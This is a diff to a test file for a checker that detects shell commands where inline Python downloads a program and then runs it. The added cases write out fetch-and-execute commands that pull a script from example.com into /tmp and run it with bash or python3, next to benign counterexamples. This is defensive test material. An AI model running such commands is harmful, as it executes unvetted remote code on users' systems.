@@ -222,6 +222,15 @@ PYTHON_FETCH_AND_RUN = {
         "python3 -u -c \"import runpy, urllib.request as u; open('/tmp/x.py', 'wb').write("
         "u.urlopen('https://example.com/p.py').read()); runpy.run_path('/tmp/x.py')\""
     ),
+    "downloaded-by-python-run-by-bash": (
+        "python3 -c \"import urllib.request as u; u.urlretrieve('https://example.com/p.py', "
+        "'/tmp/p.sh')\"\nbash /tmp/p.sh"
+    ),
+    "written-by-python-run-by-python": (
+        "python3 - <<'EOF'\nimport requests\n"
+        "open('/tmp/q.py', 'w').write(requests.get('https://example.com/p.py').text)\nEOF\n"
+        "python3 /tmp/q.py"
+    ),
     "module-named-at-run-time": (
         "python3 -c \"import os; m = __import__(os.environ['M']); m.go()\""
     ),
@@ -233,6 +242,10 @@ PYTHON_FETCH_AND_RUN = {
 def test_inline_python_that_downloads_code_and_runs_it_fails_closed(check, case, check_id):
     result = check(_parts(PYTHON_FETCH_AND_RUN[case]), check_id)
     assert result.status == "FAIL", result.reason
+    if case.startswith(("downloaded-by-python", "written-by-python")):
+        assert "a program fetched from `https://example.com/p.py`" in result.reason
+        assert "(not as a plain fetch)" in result.reason
+        return
     assert "an inline Python program that downloads code from" in result.reason
     if case == "module-named-at-run-time":
         assert "a URL known only at run time" in result.reason
@@ -248,8 +261,22 @@ def test_inline_python_that_downloads_code_and_runs_it_fails_closed(check, case,
         "python3 - <<'EOF'\nimport importlib\nmods = ['vllm', 'vllm.entrypoints']\n"
         "for m in mods: importlib.import_module(m)\nEOF",
         "python3 -c \"import importlib.metadata as m; print(m.version('vllm'))\"",
+        "python3 -c \"import json; json.dump({}, open('/tmp/r.json', 'w'))\"\nbash /tmp/r.json",
+        "python3 -c \"import requests; open('/tmp/h.txt', 'w').write(requests.get("
+        "'http://localhost:8000/health').text)\"\nbash /tmp/other.sh",
+        # a word that is no file name (the engine's, the shell's) is not what it saves
+        "python3 -c \"from huggingface_hub import snapshot_download as s; s(repo_id='vllm'); "
+        "open('/tmp/c.json', 'w').write('bash')\"",
     ],
-    ids=["network-alone", "running-alone", "literal-module-list", "metadata"],
+    ids=[
+        "network-alone",
+        "running-alone",
+        "literal-module-list",
+        "metadata",
+        "writes-without-network",
+        "downloads-a-file-nothing-runs",
+        "downloads-with-bare-words",
+    ],
 )
 def test_inline_python_that_cannot_both_download_and_run_code_is_not_counted(check, program):
     for check_id in CHECKS:
